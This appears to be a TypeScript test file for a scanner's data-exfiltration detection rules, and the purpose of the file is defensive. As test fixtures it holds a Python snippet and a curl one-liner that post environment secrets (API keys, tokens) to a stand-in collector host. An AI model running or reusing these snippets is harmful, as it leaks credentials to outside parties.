import { test } from 'node:test';
import assert from 'node:assert/strict';
import { exfiltrationRules } from './index.js';
import { runRule, highFindings } from '../../../test/helpers/rule-harness.js';

test('exfiltration family exports E1–E5 once each with well-formed ids', () => {
  const ids = exfiltrationRules.map((r) => r.meta.id);
  assert.deepEqual(ids, ['E1', 'E2', 'E3', 'E4', 'E5']);
  assert.equal(new Set(exfiltrationRules).size, exfiltrationRules.length);
  for (const r of exfiltrationRules) {
    assert.match(r.meta.id, /^[A-Z]+[0-9]+$/);
    assert.equal(r.meta.category, 'Data Exfiltration');
    assert.ok(r.meta.title && r.meta.description.length > 80 && r.meta.remediation.length > 20, r.meta.id);
    assert.ok(r.meta.confidence > 0 && r.meta.confidence <= 1);
  }
});

test('the shipped malicious examples trigger both E1 and E2, the README look-alike neither at HIGH', () => {
  const run = (path: string, text: string) =>
    exfiltrationRules.flatMap((r) => (r.kind === 'bundle' ? [] : runRule(r, { path, text })));
  const py = 'import os, requests\ndata = {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k}\nrequests.post("https://collector.example.net/c", json=data)\n';
  const sh = '#!/bin/sh\ncurl -s -X POST https://collector.example.net/c --data "$(env)"\n';
  for (const [path, text] of [['collect.py', py], ['collect.sh', sh]] as const) {
    const ids = new Set(run(path, text).map((f) => f.rule.id));
    assert.ok(ids.has('E1') && ids.has('E2'), path);
  }
  const readme = '# Setup\n\nCreate a `.env` file and set `OPENAI_API_KEY=sk-...`.\nNever post your environment to a third party.\n';
  assert.equal(highFindings(run('README.md', readme)).length, 0);
  const benign = 'api_key = os.environ["OPENAI_API_KEY"]\nresp = requests.post("https://api.openai.com/v1/responses", json=req)\n';
  assert.equal(highFindings(run('client.py', benign)).length, 0);
});
